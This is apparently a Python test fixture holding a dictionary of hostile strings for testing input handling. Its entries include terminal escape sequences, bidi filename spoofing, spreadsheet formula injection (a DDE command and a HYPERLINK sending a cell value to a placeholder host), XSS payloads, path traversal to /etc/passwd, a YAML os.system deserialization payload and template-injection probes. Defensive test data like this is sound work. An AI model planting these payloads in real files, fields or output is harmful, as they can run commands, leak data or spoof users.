"""Texts that did harm somewhere: each is somebody's file name, trigger word or description."""

from __future__ import annotations

from typing import Final

HOSTILE: Final = {
    "ansi colour": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H",
    "c1 control": "\x9b31mred\x9d0;title\x9c",
    "osc 8 link": "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
    "bidi override": "photo\u202egnp.exe\u2066\u2069\u200f",
    "zero width and tags": "a\u200bd\u2060m\ufeffin\U000e0041\U000e007f",
    "nul": "style\x00.safetensors",
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"win")',
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula, full width": "\uff1dSUM(A1)",
    "script": '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "rich markup": "[link=file:///etc/passwd]here[/link] [bold red]x[/] [/]",
    "path": "../../etc/passwd",
    "windows path": "..\\..\\C:\\Windows\\system32\\CON",
    "device": "CON",
    "device with an ending": "lpt1.txt",
    "device, superscript": "COM\u00b9",
    "255 bytes": "n" * 255,
    "300 letters of three bytes": "\u8a9e" * 300,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f style",
    "right to left": "\u0633\u062a\u0627\u06cc\u0644 \u05e1\u05d2\u05e0\u05d5\u05df",
    "combining marks": "z" + "\u0335\u0321\u0327" * 40 + "algo",
    "yaml": "x\n---\nlicense: mit\n!!python/object/apply:os.system ['true']\n&a [*a]",
    "yaml in one line": "{a: &b [*b], ? !!set {x}: y} # - ---",
    "markdown": "# H\n\n[x](javascript:alert(1)) ![i](http://e.invalid/p) | `a` | **b**\n> q\n- l",
    "fence": "```\n</code></pre><iframe src=//e.invalid>\n```",
    "autolink": "<https://e.invalid> https://e.invalid www.e.invalid @someone $x$ &lt;b&gt; &#60;",
    "newlines": "one\r\ntwo\u2028three\u0085four\x0bfive",
    "lone surrogate": "half \ud83d of a pair",
    "escaped surrogate": "\\ud83d\\u0000",
    "format": "%s%n{0.__class__.__mro__}${HOME}{{7*7}}",
    "blank": " \t\u200b\n",
}  # fmt: skip
